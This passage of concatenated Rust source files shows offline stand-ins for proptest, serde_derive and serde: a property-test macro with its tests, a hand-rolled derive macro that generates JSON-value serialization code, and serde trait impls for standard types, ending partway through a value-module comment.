        $crate::proptest!(@with ($cfg) $($rest)*);
    };
    (@with ($cfg:expr) $(
        $(#[$meta:meta])*
        fn $name:ident($($arg:ident in $strat:expr),+ $(,)?) $body:block
    )*) => {$(
        $(#[$meta])*
        fn $name() {
            let __config: $crate::test_runner::ProptestConfig = $cfg;
            let mut __rng = $crate::test_runner::Rng::deterministic(concat!(module_path!(), "::", stringify!($name)));
            for __case in 0..__config.cases {
                $(let $arg = $crate::strategy::Strategy::generate(&($strat), &mut __rng);)+
                let __inputs = format!(concat!($(stringify!($arg), " = {:?} ",)+), $(&$arg),+);
                #[allow(unreachable_code)]
                let __outcome: ::std::result::Result<(), $crate::test_runner::TestCaseError> =
                    (|| {
                        $body
                        ::std::result::Result::Ok(())
                    })();
                if let ::std::result::Result::Err(e) = __outcome {
                    panic!(
                        "proptest {} failed at case {}/{}:\n{}\ninputs: {}",
                        stringify!($name), __case + 1, __config.cases, e, __inputs
                    );
                }
            }
        }
    )*};
    ($($rest:tt)*) => {
        $crate::proptest!(@with ($crate::test_runner::ProptestConfig::default()) $($rest)*);
    };
}

#[cfg(test)]
mod tests {
    use crate::prelude::*;

    #[test]
    fn determinism_same_name_same_stream() {
        let mut a = crate::test_runner::Rng::deterministic("x");
        let mut b = crate::test_runner::Rng::deterministic("x");
        for _ in 0..32 {
            assert_eq!(a.next_u64(), b.next_u64());
        }
    }

    #[test]
    fn regex_subset_shapes() {
        let mut rng = crate::test_runner::Rng::deterministic("regex");
        for _ in 0..200 {
            let s = "[a-z]{1,8}".generate(&mut rng);
            assert!((1..=8).contains(&s.len()), "{s:?}");
            assert!(s.chars().all(|c| c.is_ascii_lowercase()));

            let t = "[a-zA-Z0-9 <>&';]{0,40}".generate(&mut rng);
            assert!(t.chars().count() <= 40);

            let u = "\\PC*".generate(&mut rng);
            assert!(u.chars().all(|c| !c.is_control()), "{u:?}");
        }
    }

    #[test]
    fn ranges_stay_in_bounds() {
        let mut rng = crate::test_runner::Rng::deterministic("ranges");
        for _ in 0..200 {
            let v = (0u64..1000).generate(&mut rng);
            assert!(v < 1000);
            let w = (3usize..5).generate(&mut rng);
            assert!((3..5).contains(&w));
        }
    }

    proptest! {
        #![proptest_config(ProptestConfig::with_cases(64))]

        #[test]
        fn macro_end_to_end(v in crate::collection::vec(any::<u8>(), 0..10), s in "[a-z]{1,4}") {
            prop_assert!(v.len() < 10);
            prop_assert_eq!(s.len(), s.chars().count());
            if v.is_empty() {
                return Ok(());
            }
            let choice = prop_oneof![Just(1u8), Just(2u8)];
            let mut rng = crate::test_runner::Rng::deterministic("inner");
            let picked = choice.generate(&mut rng);
            prop_assert!(picked == 1 || picked == 2);
        }
    }
}
