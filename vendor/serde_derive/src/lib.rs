//! Offline stand-in for `serde_derive`.
//!
//! A syn-free derive implementation for the vendored `serde` facade. It
//! parses the item's token stream by hand and generates `Serialize` /
//! `Deserialize` impls in terms of `serde::Value`.
//!
//! Supported shapes (everything this workspace derives):
//! * structs with named fields — attrs `#[serde(default)]`, `#[serde(flatten)]`,
//!   `#[serde(skip_serializing_if = "path::to::predicate")]`
//! * tuple structs (newtype and wider)
//! * enums with unit, named-field, and tuple variants (externally tagged)
//!
//! Anything else (generics, unknown serde attributes) is a loud compile
//! error rather than a silent misparse.

// Vendored stand-in: keep the first-party clippy gate quiet here.
#![allow(clippy::all)]

use proc_macro::{Delimiter, TokenStream, TokenTree};

#[derive(Debug, Default, Clone)]
struct FieldAttrs {
    default: bool,
    flatten: bool,
    /// Path of a `fn(&T) -> bool` predicate; the field is omitted from the
    /// serialized object when it returns true. Pair with `default` so the
    /// omitted field still deserializes.
    skip_if: Option<String>,
}

#[derive(Debug)]
struct Field {
    name: String,
    attrs: FieldAttrs,
}

#[derive(Debug)]
enum VariantKind {
    Unit,
    Named(Vec<Field>),
    Tuple(usize),
}

#[derive(Debug)]
struct Variant {
    name: String,
    kind: VariantKind,
}

#[derive(Debug)]
enum Item {
    NamedStruct { name: String, fields: Vec<Field> },
    TupleStruct { name: String, arity: usize },
    UnitStruct { name: String },
    Enum { name: String, variants: Vec<Variant> },
}

// ---------------------------------------------------------------------------
// Token-stream parsing.

struct Cursor {
    toks: Vec<TokenTree>,
    pos: usize,
}

impl Cursor {
    fn new(ts: TokenStream) -> Self {
        Cursor { toks: ts.into_iter().collect(), pos: 0 }
    }

    fn peek(&self) -> Option<&TokenTree> {
        self.toks.get(self.pos)
    }

    fn next(&mut self) -> Option<TokenTree> {
        let t = self.toks.get(self.pos).cloned();
        if t.is_some() {
            self.pos += 1;
        }
        t
    }

    fn eat_ident(&mut self, word: &str) -> bool {
        if let Some(TokenTree::Ident(id)) = self.peek() {
            if id.to_string() == word {
                self.pos += 1;
                return true;
            }
        }
        false
    }

    fn eat_punct(&mut self, ch: char) -> bool {
        if let Some(TokenTree::Punct(p)) = self.peek() {
            if p.as_char() == ch {
                self.pos += 1;
                return true;
            }
        }
        false
    }

    /// Skip `#[...]` attributes; returns the serde attrs seen.
    fn skip_attrs(&mut self) -> FieldAttrs {
        let mut attrs = FieldAttrs::default();
        loop {
            let is_hash = matches!(self.peek(), Some(TokenTree::Punct(p)) if p.as_char() == '#');
            if !is_hash {
                return attrs;
            }
            self.pos += 1;
            match self.next() {
                Some(TokenTree::Group(g)) if g.delimiter() == Delimiter::Bracket => {
                    parse_attr_group(g.stream(), &mut attrs);
                }
                other => panic!("serde_derive: expected [...] after #, got {other:?}"),
            }
        }
    }

    /// Skip `pub`, `pub(crate)`, etc.
    fn skip_visibility(&mut self) {
        if self.eat_ident("pub") {
            if let Some(TokenTree::Group(g)) = self.peek() {
                if g.delimiter() == Delimiter::Parenthesis {
                    self.pos += 1;
                }
            }
        }
    }

    /// Skip a type (after `:` in a field), stopping at a top-level comma or
    /// end of stream. Tracks `<...>` nesting; parens/brackets arrive as
    /// whole groups so their inner commas are invisible here.
    fn skip_type(&mut self) {
        let mut angle: i32 = 0;
        while let Some(t) = self.peek() {
            match t {
                TokenTree::Punct(p) if p.as_char() == '<' => angle += 1,
                TokenTree::Punct(p) if p.as_char() == '>' => angle -= 1,
                TokenTree::Punct(p) if p.as_char() == ',' && angle == 0 => return,
                _ => {}
            }
            self.pos += 1;
        }
    }
}

fn parse_attr_group(stream: TokenStream, attrs: &mut FieldAttrs) {
    let mut it = stream.into_iter();
    match it.next() {
        Some(TokenTree::Ident(id)) if id.to_string() == "serde" => {}
        _ => return, // doc comment, cfg, non_exhaustive, ... — not ours
    }
    let Some(TokenTree::Group(inner)) = it.next() else {
        return;
    };
    let mut toks = inner.stream().into_iter().peekable();
    while let Some(tok) = toks.next() {
        match tok {
            TokenTree::Ident(id) => match id.to_string().as_str() {
                "default" => attrs.default = true,
                "flatten" => attrs.flatten = true,
                "skip_serializing_if" => match (toks.next(), toks.next()) {
                    (Some(TokenTree::Punct(eq)), Some(TokenTree::Literal(lit)))
                        if eq.as_char() == '=' =>
                    {
                        let raw = lit.to_string();
                        let path = raw.trim_matches('"');
                        if path.is_empty() || path.len() == raw.len() {
                            panic!(
                                    "serde_derive: skip_serializing_if expects a string literal path, got {raw}"
                                );
                        }
                        attrs.skip_if = Some(path.to_string());
                    }
                    other => panic!(
                        "serde_derive: expected `skip_serializing_if = \"path\"`, got {other:?}"
                    ),
                },
                other => panic!("serde_derive: unsupported serde attribute `{other}`"),
            },
            TokenTree::Punct(p) if p.as_char() == ',' => {}
            other => panic!("serde_derive: unsupported serde attribute syntax at {other:?}"),
        }
    }
}

fn parse_named_fields(stream: TokenStream) -> Vec<Field> {
    let mut cur = Cursor::new(stream);
    let mut fields = Vec::new();
    loop {
        let attrs = cur.skip_attrs();
        cur.skip_visibility();
        let name = match cur.next() {
            Some(TokenTree::Ident(id)) => id.to_string(),
            None => break,
            other => panic!("serde_derive: expected field name, got {other:?}"),
        };
        if !cur.eat_punct(':') {
            panic!("serde_derive: expected `:` after field `{name}`");
        }
        cur.skip_type();
        cur.eat_punct(',');
        fields.push(Field { name, attrs });
    }
    fields
}

fn count_tuple_fields(stream: TokenStream) -> usize {
    let mut cur = Cursor::new(stream);
    let mut count = 0usize;
    loop {
        cur.skip_attrs();
        cur.skip_visibility();
        if cur.peek().is_none() {
            break;
        }
        cur.skip_type();
        count += 1;
        if !cur.eat_punct(',') {
            break;
        }
    }
    count
}

fn parse_variants(stream: TokenStream) -> Vec<Variant> {
    let mut cur = Cursor::new(stream);
    let mut variants = Vec::new();
    loop {
        cur.skip_attrs();
        let name = match cur.next() {
            Some(TokenTree::Ident(id)) => id.to_string(),
            None => break,
            other => panic!("serde_derive: expected variant name, got {other:?}"),
        };
        let kind = match cur.peek() {
            Some(TokenTree::Group(g)) if g.delimiter() == Delimiter::Brace => {
                let fields = parse_named_fields(g.stream());
                cur.pos += 1;
                VariantKind::Named(fields)
            }
            Some(TokenTree::Group(g)) if g.delimiter() == Delimiter::Parenthesis => {
                let arity = count_tuple_fields(g.stream());
                cur.pos += 1;
                VariantKind::Tuple(arity)
            }
            _ => VariantKind::Unit,
        };
        // Skip an optional `= discriminant` up to the comma.
        while let Some(t) = cur.peek() {
            if matches!(t, TokenTree::Punct(p) if p.as_char() == ',') {
                break;
            }
            cur.pos += 1;
        }
        cur.eat_punct(',');
        variants.push(Variant { name, kind });
    }
    variants
}

fn parse_item(input: TokenStream) -> Item {
    let mut cur = Cursor::new(input);
    // Outer attributes and visibility.
    cur.skip_attrs();
    cur.skip_visibility();

    let is_enum = if cur.eat_ident("struct") {
        false
    } else if cur.eat_ident("enum") {
        true
    } else {
        panic!("serde_derive: expected `struct` or `enum`, got {:?}", cur.peek());
    };
    let name = match cur.next() {
        Some(TokenTree::Ident(id)) => id.to_string(),
        other => panic!("serde_derive: expected type name, got {other:?}"),
    };
    if matches!(cur.peek(), Some(TokenTree::Punct(p)) if p.as_char() == '<') {
        panic!("serde_derive: generic type `{name}` is not supported by the vendored derive");
    }
    match cur.next() {
        Some(TokenTree::Group(g)) if g.delimiter() == Delimiter::Brace => {
            if is_enum {
                Item::Enum { name, variants: parse_variants(g.stream()) }
            } else {
                Item::NamedStruct { name, fields: parse_named_fields(g.stream()) }
            }
        }
        Some(TokenTree::Group(g)) if g.delimiter() == Delimiter::Parenthesis => {
            Item::TupleStruct { name, arity: count_tuple_fields(g.stream()) }
        }
        Some(TokenTree::Punct(p)) if p.as_char() == ';' => Item::UnitStruct { name },
        other => panic!("serde_derive: unsupported item body {other:?}"),
    }
}

// ---------------------------------------------------------------------------
// Code generation (assembled as source text, parsed back into tokens).

fn gen_serialize(item: &Item) -> String {
    match item {
        Item::NamedStruct { name, fields } => {
            let mut body = String::from("let mut __m = ::serde::Map::new();\n");
            for f in fields {
                if f.attrs.flatten {
                    body.push_str(&format!(
                        "if let ::serde::Value::Object(__o) = ::serde::Serialize::to_value(&self.{n}) {{ for (__k, __fv) in __o {{ __m.insert(__k, __fv); }} }}\n",
                        n = f.name
                    ));
                } else if let Some(pred) = &f.attrs.skip_if {
                    body.push_str(&format!(
                        "if !{pred}(&self.{n}) {{ __m.insert({q}.to_string(), ::serde::Serialize::to_value(&self.{n})); }}\n",
                        q = quote_str(&f.name),
                        n = f.name
                    ));
                } else {
                    body.push_str(&format!(
                        "__m.insert({q}.to_string(), ::serde::Serialize::to_value(&self.{n}));\n",
                        q = quote_str(&f.name),
                        n = f.name
                    ));
                }
            }
            body.push_str("::serde::Value::Object(__m)");
            impl_serialize(name, &body)
        }
        Item::TupleStruct { name, arity: 1 } => {
            impl_serialize(name, "::serde::Serialize::to_value(&self.0)")
        }
        Item::TupleStruct { name, arity } => {
            let items: Vec<String> =
                (0..*arity).map(|i| format!("::serde::Serialize::to_value(&self.{i})")).collect();
            impl_serialize(name, &format!("::serde::Value::Array(vec![{}])", items.join(", ")))
        }
        Item::UnitStruct { name } => impl_serialize(name, "::serde::Value::Null"),
        Item::Enum { name, variants } => {
            let mut arms = String::new();
            for v in variants {
                let vq = quote_str(&v.name);
                match &v.kind {
                    VariantKind::Unit => arms.push_str(&format!(
                        "{name}::{v} => ::serde::Value::String({vq}.to_string()),\n",
                        v = v.name
                    )),
                    VariantKind::Named(fields) => {
                        let binds: Vec<&str> = fields.iter().map(|f| f.name.as_str()).collect();
                        let mut inner = String::from("let mut __f = ::serde::Map::new();\n");
                        for f in fields {
                            inner.push_str(&format!(
                                "__f.insert({q}.to_string(), ::serde::Serialize::to_value({n}));\n",
                                q = quote_str(&f.name),
                                n = f.name
                            ));
                        }
                        arms.push_str(&format!(
                            "{name}::{v} {{ {binds} }} => {{ {inner} let mut __m = ::serde::Map::new(); __m.insert({vq}.to_string(), ::serde::Value::Object(__f)); ::serde::Value::Object(__m) }}\n",
                            v = v.name,
                            binds = binds.join(", "),
                        ));
                    }
                    VariantKind::Tuple(arity) => {
                        let binds: Vec<String> = (0..*arity).map(|i| format!("__t{i}")).collect();
                        let payload = if *arity == 1 {
                            "::serde::Serialize::to_value(__t0)".to_string()
                        } else {
                            let items: Vec<String> = binds
                                .iter()
                                .map(|b| format!("::serde::Serialize::to_value({b})"))
                                .collect();
                            format!("::serde::Value::Array(vec![{}])", items.join(", "))
                        };
                        arms.push_str(&format!(
                            "{name}::{v}({binds}) => {{ let mut __m = ::serde::Map::new(); __m.insert({vq}.to_string(), {payload}); ::serde::Value::Object(__m) }}\n",
                            v = v.name,
                            binds = binds.join(", "),
                        ));
                    }
                }
            }
            impl_serialize(name, &format!("match self {{\n{arms}}}"))
        }
    }
}

fn gen_deserialize(item: &Item) -> String {
    match item {
        Item::NamedStruct { name, fields } => {
            let mut inits = String::new();
            for f in fields {
                if f.attrs.flatten {
                    inits.push_str(&format!(
                        "{n}: ::serde::Deserialize::from_value(__v)?,\n",
                        n = f.name
                    ));
                } else if f.attrs.default {
                    inits.push_str(&format!(
                        "{n}: match __m.get({q}) {{ ::std::option::Option::Some(__x) => ::serde::Deserialize::from_value(__x)?, ::std::option::Option::None => ::std::default::Default::default() }},\n",
                        n = f.name,
                        q = quote_str(&f.name)
                    ));
                } else {
                    inits.push_str(&format!(
                        "{n}: ::serde::field(__m, {q})?,\n",
                        n = f.name,
                        q = quote_str(&f.name)
                    ));
                }
            }
            let body = format!(
                "let __m = __v.expect_object({q})?;\n::std::result::Result::Ok({name} {{\n{inits}}})",
                q = quote_str(name)
            );
            impl_deserialize(name, &body)
        }
        Item::TupleStruct { name, arity: 1 } => impl_deserialize(
            name,
            &format!("::std::result::Result::Ok({name}(::serde::Deserialize::from_value(__v)?))"),
        ),
        Item::TupleStruct { name, arity } => {
            let inits: Vec<String> = (0..*arity)
                .map(|i| format!("::serde::Deserialize::from_value(&__items[{i}])?"))
                .collect();
            let body = format!(
                "match __v {{ ::serde::Value::Array(__items) if __items.len() == {arity} => ::std::result::Result::Ok({name}({inits})), _ => ::std::result::Result::Err(::serde::Error::msg(\"expected array of {arity} for {name}\")) }}",
                inits = inits.join(", ")
            );
            impl_deserialize(name, &body)
        }
        Item::UnitStruct { name } => {
            impl_deserialize(name, &format!("::std::result::Result::Ok({name})"))
        }
        Item::Enum { name, variants } => {
            let mut unit_arms = String::new();
            let mut payload_arms = String::new();
            for v in variants {
                let vq = quote_str(&v.name);
                match &v.kind {
                    VariantKind::Unit => unit_arms.push_str(&format!(
                        "{vq} => ::std::result::Result::Ok({name}::{v}),\n",
                        v = v.name
                    )),
                    VariantKind::Named(fields) => {
                        let inits: Vec<String> = fields
                            .iter()
                            .map(|f| {
                                format!(
                                    "{n}: ::serde::field(__f, {q})?",
                                    n = f.name,
                                    q = quote_str(&f.name)
                                )
                            })
                            .collect();
                        payload_arms.push_str(&format!(
                            "{vq} => {{ let __f = __inner.expect_object({vq})?; ::std::result::Result::Ok({name}::{v} {{ {inits} }}) }}\n",
                            v = v.name,
                            inits = inits.join(", "),
                        ));
                    }
                    VariantKind::Tuple(arity) => {
                        if *arity == 1 {
                            payload_arms.push_str(&format!(
                                "{vq} => ::std::result::Result::Ok({name}::{v}(::serde::Deserialize::from_value(__inner)?)),\n",
                                v = v.name
                            ));
                        } else {
                            let inits: Vec<String> = (0..*arity)
                                .map(|i| {
                                    format!("::serde::Deserialize::from_value(&__items[{i}])?")
                                })
                                .collect();
                            payload_arms.push_str(&format!(
                                "{vq} => match __inner {{ ::serde::Value::Array(__items) if __items.len() == {arity} => ::std::result::Result::Ok({name}::{v}({inits})), _ => ::std::result::Result::Err(::serde::Error::msg(\"bad payload for {name}::{v}\")) }},\n",
                                v = v.name,
                                inits = inits.join(", "),
                            ));
                        }
                    }
                }
            }
            let body = format!(
                "match __v {{\n\
                 ::serde::Value::String(__s) => match __s.as_str() {{\n{unit_arms}\
                 __other => ::std::result::Result::Err(::serde::Error::msg(format!(\"unknown {name} variant {{__other:?}}\"))),\n}},\n\
                 ::serde::Value::Object(__m) if __m.len() == 1 => {{\n\
                 let (__k, __inner) = __m.iter().next().unwrap();\n\
                 match __k.as_str() {{\n{payload_arms}\
                 __other => ::std::result::Result::Err(::serde::Error::msg(format!(\"unknown {name} variant {{__other:?}}\"))),\n}}\n}},\n\
                 __other => ::std::result::Result::Err(::serde::Error::msg(format!(\"cannot deserialize {name} from {{}}\", __other.kind()))),\n}}"
            );
            impl_deserialize(name, &body)
        }
    }
}

fn impl_serialize(name: &str, body: &str) -> String {
    format!(
        "#[automatically_derived]\nimpl ::serde::Serialize for {name} {{\n\
         fn to_value(&self) -> ::serde::Value {{\n{body}\n}}\n}}\n"
    )
}

fn impl_deserialize(name: &str, body: &str) -> String {
    format!(
        "#[automatically_derived]\nimpl ::serde::Deserialize for {name} {{\n\
         fn from_value(__v: &::serde::Value) -> ::std::result::Result<Self, ::serde::Error> {{\n{body}\n}}\n}}\n"
    )
}

fn quote_str(s: &str) -> String {
    format!("{s:?}")
}

#[proc_macro_derive(Serialize, attributes(serde))]
pub fn derive_serialize(input: TokenStream) -> TokenStream {
    let item = parse_item(input);
    gen_serialize(&item).parse().expect("serde_derive: generated Serialize impl must parse")
}

#[proc_macro_derive(Deserialize, attributes(serde))]
pub fn derive_deserialize(input: TokenStream) -> TokenStream {
    let item = parse_item(input);
    gen_deserialize(&item).parse().expect("serde_derive: generated Deserialize impl must parse")
}
