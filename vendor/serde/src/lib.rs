//! Offline stand-in for `serde`.
//!
//! The build environment has no crates.io access, so this vendored crate
//! provides the subset of serde's surface the workspace uses: the
//! `Serialize`/`Deserialize` traits (modelled as conversions to/from a JSON
//! [`Value`] tree), impls for the std types that appear in our data model,
//! and — behind the `derive` feature — the `#[derive(Serialize,
//! Deserialize)]` proc macros from the sibling `serde_derive` crate.
//!
//! Supported derive attributes: `#[serde(default)]`, `#[serde(flatten)]`
//! and `#[serde(skip_serializing_if = "path")]`. That is exactly what the
//! repo needs; anything more is a compile error in `serde_derive` rather
//! than a silent misparse.

// Vendored stand-in: keep the first-party clippy gate quiet here.
#![allow(clippy::all)]

pub mod value;

pub use value::{Map, Number, Value};

#[cfg(feature = "derive")]
pub use serde_derive::{Deserialize, Serialize};

/// Deserialization error: a human-readable path + message.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Error(pub String);

impl Error {
    pub fn msg(m: impl Into<String>) -> Self {
        Error(m.into())
    }
}

impl std::fmt::Display for Error {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        f.write_str(&self.0)
    }
}

impl std::error::Error for Error {}

/// Serialize into the [`Value`] data model.
pub trait Serialize {
    fn to_value(&self) -> Value;
}

/// Deserialize from the [`Value`] data model.
pub trait Deserialize: Sized {
    fn from_value(v: &Value) -> Result<Self, Error>;
}

// ---------------------------------------------------------------------------
// Helpers used by generated derive code.

/// Fetch a struct field from an object map. Missing fields are fed
/// [`Value::Null`] so that `Option<T>` fields deserialize to `None` (serde's
/// behaviour); types that reject `Null` produce a "missing field" error.
pub fn field<T: Deserialize>(m: &Map<String, Value>, name: &str) -> Result<T, Error> {
    match m.get(name) {
        Some(v) => T::from_value(v).map_err(|e| Error(format!("field `{name}`: {e}"))),
        None => T::from_value(&Value::Null).map_err(|_| Error(format!("missing field `{name}`"))),
    }
}

impl Value {
    /// Expect an object, with a type name for the error message. Used by
    /// generated code.
    pub fn expect_object(&self, ty: &str) -> Result<&Map<String, Value>, Error> {
        match self {
            Value::Object(m) => Ok(m),
            other => Err(Error(format!("expected object for {ty}, got {}", other.kind()))),
        }
    }
}

// ---------------------------------------------------------------------------
// Primitive impls.

impl Serialize for bool {
    fn to_value(&self) -> Value {
        Value::Bool(*self)
    }
}

impl Deserialize for bool {
    fn from_value(v: &Value) -> Result<Self, Error> {
        match v {
            Value::Bool(b) => Ok(*b),
            other => Err(Error(format!("expected bool, got {}", other.kind()))),
        }
    }
}

macro_rules! impl_unsigned {
    ($($t:ty),*) => {$(
        impl Serialize for $t {
            fn to_value(&self) -> Value {
                Value::Number(Number::U(*self as u64))
            }
        }
        impl Deserialize for $t {
            fn from_value(v: &Value) -> Result<Self, Error> {
                let n = v.as_u64_strict()?;
                <$t>::try_from(n).map_err(|_| Error(format!("{n} out of range for {}", stringify!($t))))
            }
        }
    )*};
}

macro_rules! impl_signed {
    ($($t:ty),*) => {$(
        impl Serialize for $t {
            fn to_value(&self) -> Value {
                Value::Number(Number::I(*self as i64))
            }
        }
        impl Deserialize for $t {
            fn from_value(v: &Value) -> Result<Self, Error> {
                let n = v.as_i64_strict()?;
                <$t>::try_from(n).map_err(|_| Error(format!("{n} out of range for {}", stringify!($t))))
            }
        }
    )*};
}

impl_unsigned!(u8, u16, u32, u64, usize);
impl_signed!(i8, i16, i32, i64, isize);

impl Serialize for f64 {
    fn to_value(&self) -> Value {
        if self.is_finite() {
            Value::Number(Number::F(*self))
        } else {
            // serde_json serializes non-finite floats as null.
            Value::Null
        }
    }
}

impl Deserialize for f64 {
    fn from_value(v: &Value) -> Result<Self, Error> {
        match v {
            Value::Number(n) => Ok(n.as_f64()),
            other => Err(Error(format!("expected number, got {}", other.kind()))),
        }
    }
}

impl Serialize for f32 {
    fn to_value(&self) -> Value {
        (*self as f64).to_value()
    }
}

impl Deserialize for f32 {
    fn from_value(v: &Value) -> Result<Self, Error> {
        f64::from_value(v).map(|f| f as f32)
    }
}

impl Serialize for str {
    fn to_value(&self) -> Value {
        Value::String(self.to_owned())
    }
}

impl Serialize for String {
    fn to_value(&self) -> Value {
        Value::String(self.clone())
    }
}

impl Deserialize for String {
    fn from_value(v: &Value) -> Result<Self, Error> {
        match v {
            Value::String(s) => Ok(s.clone()),
            other => Err(Error(format!("expected string, got {}", other.kind()))),
        }
    }
}

/// `&'static str` deserialization leaks the parsed string. It exists only so
/// `#[derive(Deserialize)]` compiles on types carrying static metadata
/// strings (e.g. MIME constants) that are never actually deserialized in
/// practice.
impl Deserialize for &'static str {
    fn from_value(v: &Value) -> Result<Self, Error> {
        String::from_value(v).map(|s| &*Box::leak(s.into_boxed_str()))
    }
}

impl Serialize for char {
    fn to_value(&self) -> Value {
        Value::String(self.to_string())
    }
}

impl Deserialize for char {
    fn from_value(v: &Value) -> Result<Self, Error> {
        let s = String::from_value(v)?;
        let mut it = s.chars();
        match (it.next(), it.next()) {
            (Some(c), None) => Ok(c),
            _ => Err(Error(format!("expected single char, got {s:?}"))),
        }
    }
}

impl<'a, T: Serialize + ?Sized> Serialize for &'a T {
    fn to_value(&self) -> Value {
        (**self).to_value()
    }
}

impl<T: Serialize + ?Sized> Serialize for Box<T> {
    fn to_value(&self) -> Value {
        (**self).to_value()
    }
}

impl<T: Deserialize> Deserialize for Box<T> {
    fn from_value(v: &Value) -> Result<Self, Error> {
        T::from_value(v).map(Box::new)
    }
}

impl Serialize for Value {
    fn to_value(&self) -> Value {
        self.clone()
    }
}

impl Deserialize for Value {
    fn from_value(v: &Value) -> Result<Self, Error> {
        Ok(v.clone())
    }
}

// ---------------------------------------------------------------------------
// Containers.

impl<T: Serialize> Serialize for Option<T> {
    fn to_value(&self) -> Value {
        match self {
            Some(x) => x.to_value(),
            None => Value::Null,
        }
    }
}

impl<T: Deserialize> Deserialize for Option<T> {
    fn from_value(v: &Value) -> Result<Self, Error> {
        match v {
            Value::Null => Ok(None),
            other => T::from_value(other).map(Some),
        }
    }
}

impl<T: Serialize> Serialize for Vec<T> {
    fn to_value(&self) -> Value {
        Value::Array(self.iter().map(Serialize::to_value).collect())
    }
}

impl<T: Deserialize> Deserialize for Vec<T> {
    fn from_value(v: &Value) -> Result<Self, Error> {
        match v {
            Value::Array(items) => items.iter().map(T::from_value).collect(),
            other => Err(Error(format!("expected array, got {}", other.kind()))),
        }
    }
}

impl<T: Serialize> Serialize for [T] {
    fn to_value(&self) -> Value {
        Value::Array(self.iter().map(Serialize::to_value).collect())
    }
}

impl<T: Serialize, const N: usize> Serialize for [T; N] {
    fn to_value(&self) -> Value {
        Value::Array(self.iter().map(Serialize::to_value).collect())
    }
}

impl<T: Deserialize, const N: usize> Deserialize for [T; N] {
    fn from_value(v: &Value) -> Result<Self, Error> {
        let items: Vec<T> = Vec::from_value(v)?;
        let len = items.len();
        items.try_into().map_err(|_| Error(format!("expected array of length {N}, got {len}")))
    }
}

impl<T: Serialize + Ord> Serialize for std::collections::BTreeSet<T> {
    fn to_value(&self) -> Value {
        Value::Array(self.iter().map(Serialize::to_value).collect())
    }
}

impl<T: Deserialize + Ord> Deserialize for std::collections::BTreeSet<T> {
    fn from_value(v: &Value) -> Result<Self, Error> {
        match v {
            Value::Array(items) => items.iter().map(T::from_value).collect(),
            other => Err(Error(format!("expected array, got {}", other.kind()))),
        }
    }
}

/// Map keys must serialize to a string or number value (serde_json's rule).
fn key_to_string<K: Serialize>(k: &K) -> Result<String, Error> {
    match k.to_value() {
        Value::String(s) => Ok(s),
        Value::Number(n) => Ok(n.render()),
        other => Err(Error(format!("map key must be string-like, got {}", other.kind()))),
    }
}

/// Reverse of [`key_to_string`]: try the key as a string first, then as a
/// number, so both enum keys ("FB2") and numeric keys ("3") round-trip.
fn key_from_string<K: Deserialize>(s: &str) -> Result<K, Error> {
    if let Ok(k) = K::from_value(&Value::String(s.to_owned())) {
        return Ok(k);
    }
    if let Some(n) = Number::parse(s) {
        if let Ok(k) = K::from_value(&Value::Number(n)) {
            return Ok(k);
        }
    }
    Err(Error(format!("cannot deserialize map key from {s:?}")))
}

impl<K: Serialize, V: Serialize> Serialize for std::collections::BTreeMap<K, V> {
    fn to_value(&self) -> Value {
        let mut m = Map::new();
        for (k, v) in self {
            // Key conversion failures cannot surface through the infallible
            // serialize trait; fall back to the debug-ish rendering.
            let key = key_to_string(k).unwrap_or_else(|_| format!("{:?}", k.to_value()));
            m.insert(key, v.to_value());
        }
        Value::Object(m)
    }
}

impl<K: Deserialize + Ord, V: Deserialize> Deserialize for std::collections::BTreeMap<K, V> {
    fn from_value(v: &Value) -> Result<Self, Error> {
        match v {
            Value::Object(m) => {
                m.iter().map(|(k, v)| Ok((key_from_string(k)?, V::from_value(v)?))).collect()
            }
            other => Err(Error(format!("expected object, got {}", other.kind()))),
        }
    }
}

impl<K: Serialize, V: Serialize> Serialize for std::collections::HashMap<K, V> {
    fn to_value(&self) -> Value {
        let mut m = Map::new();
        for (k, v) in self {
            let key = key_to_string(k).unwrap_or_else(|_| format!("{:?}", k.to_value()));
            m.insert(key, v.to_value());
        }
        Value::Object(m)
    }
}

macro_rules! impl_tuple {
    ($(($($name:ident $idx:tt),+);)*) => {$(
        impl<$($name: Serialize),+> Serialize for ($($name,)+) {
            fn to_value(&self) -> Value {
                Value::Array(vec![$(self.$idx.to_value()),+])
            }
        }
        impl<$($name: Deserialize),+> Deserialize for ($($name,)+) {
            fn from_value(v: &Value) -> Result<Self, Error> {
                match v {
                    Value::Array(items) => {
                        let expected = [$(stringify!($idx)),+].len();
                        if items.len() != expected {
                            return Err(Error(format!(
                                "expected tuple of {expected}, got array of {}", items.len())));
                        }
                        Ok(($($name::from_value(&items[$idx])?,)+))
                    }
                    other => Err(Error(format!("expected array, got {}", other.kind()))),
                }
            }
        }
    )*};
}

impl_tuple! {
    (A 0);
    (A 0, B 1);
    (A 0, B 1, C 2);
    (A 0, B 1, C 2, D 3);
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn primitives_roundtrip() {
        assert_eq!(u64::from_value(&42u64.to_value()).unwrap(), 42);
        assert_eq!(i64::from_value(&(-7i64).to_value()).unwrap(), -7);
        assert_eq!(f64::from_value(&1.5f64.to_value()).unwrap(), 1.5);
        assert_eq!(bool::from_value(&true.to_value()).unwrap(), true);
        assert_eq!(String::from_value(&"x".to_value()).unwrap(), "x");
    }

    #[test]
    fn option_missing_is_none() {
        let m = Map::new();
        let v: Option<String> = field(&m, "absent").unwrap();
        assert!(v.is_none());
        assert!(field::<String>(&m, "absent").is_err());
    }

    #[test]
    fn map_keys_roundtrip_numbers() {
        let mut m = std::collections::BTreeMap::new();
        m.insert(3u64, "x".to_owned());
        let v = m.to_value();
        let back: std::collections::BTreeMap<u64, String> = Deserialize::from_value(&v).unwrap();
        assert_eq!(back, m);
    }

    #[test]
    fn arrays_and_tuples() {
        let a = [(1usize, 2.5f64), (3, 4.0)];
        let v = a.to_value();
        let back: [(usize, f64); 2] = Deserialize::from_value(&v).unwrap();
        assert_eq!(back, a);
    }

    #[test]
    fn u64_precision_survives() {
        let big = u64::MAX - 3;
        let back = u64::from_value(&big.to_value()).unwrap();
        assert_eq!(back, big);
    }
}
