//! The JSON data model shared by the vendored `serde` and `serde_json`.

use std::collections::BTreeMap;

/// Object map. `serde_json::Map<String, Value>` in real serde_json preserves
/// insertion order; a sorted map is observably different only in output key
/// order, which nothing in this workspace depends on.
pub type Map<K = String, V = Value> = BTreeMap<K, V>;

/// A JSON number. Unsigned/signed integers are kept exact (domain ids are
